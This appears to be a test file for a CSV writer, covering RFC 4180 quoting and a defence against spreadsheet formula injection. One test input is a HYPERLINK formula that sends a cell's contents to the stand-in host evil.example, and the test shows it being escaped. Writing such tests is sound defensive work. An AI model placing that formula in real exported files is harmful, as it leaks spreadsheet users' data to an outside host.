import { csvField, toCsv } from '../csv';

// CSV as RFC 4180 writes it, safe to open in a spreadsheet (OWASP "CSV Injection").

it('quotes a field holding a comma, a double quote or a line break, doubling its quotes', () => {
  expect(csvField('EMU-000001')).toBe('EMU-000001');
  expect(csvField('Acme, Inc.')).toBe('"Acme, Inc."');
  expect(csvField('The "Best" Co')).toBe('"The ""Best"" Co"');
  expect(csvField('line one\nline two')).toBe('"line one\nline two"');
  expect(csvField('')).toBe('');
});

it('gives a field a spreadsheet would run as a formula a leading apostrophe', () => {
  expect(['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx'].map(csvField)).toEqual([
    "'=1+1",
    "'+1",
    "'-1",
    "'@SUM(A1)",
    "'\tx",
    '"\'\rx"',
  ]);
  expect(csvField('=HYPERLINK("https://evil.example/?"&A1,"Open")')).toBe(
    '"\'=HYPERLINK(""https://evil.example/?""&A1,""Open"")"',
  );
  // Only the first character counts: text with a sign inside stays as it is.
  expect(csvField('a=b')).toBe('a=b');
  expect(csvField('30.00')).toBe('30.00');
});

it('writes a header record and one record per row, each ended by CRLF', () => {
  expect(
    toCsv(
      ['Date', 'Amount'],
      [
        ['2026-11-28', '30.00'],
        ['2026-10-28', '=1'],
      ],
    ),
  ).toBe("Date,Amount\r\n2026-11-28,30.00\r\n2026-10-28,'=1\r\n");
  expect(toCsv(['Date'], [])).toBe('Date\r\n');
});
